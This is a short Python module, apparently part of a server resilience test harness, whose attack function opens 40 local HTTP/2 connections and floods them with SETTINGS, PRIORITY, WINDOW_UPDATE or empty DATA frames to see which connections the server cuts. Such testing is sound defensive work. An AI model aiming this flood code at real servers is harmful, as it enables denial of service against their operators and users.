from _crowd import crowd
from _http2 import DATA, PRIORITY, SETTINGS, WINDOW_UPDATE, connect, frame, request

WHAT = "40 HTTP/2 connections that send nothing but SETTINGS, PRIORITY, WINDOW_UPDATE or empty DATA, 100 frames at a time"
FLOODS = (
    frame(SETTINGS, 0, 0),
    frame(PRIORITY, 0, 1, b"\0\0\0\0\x09"),
    frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1"),
    frame(DATA, 0, 1),
)


def attack(box, stop):
    def one(number):
        s = connect(box, f"127.0.11.{number % 8 + 1}")
        try:
            s.sendall(request(1, "POST", "/login", False, content_type="application/x-www-form-urlencoded"))
            while not stop.is_set():
                s.sendall(FLOODS[number % 4] * 100)
        finally:
            s.close()

    return "%d connections, %d of them cut" % crowd(40, stop, one)
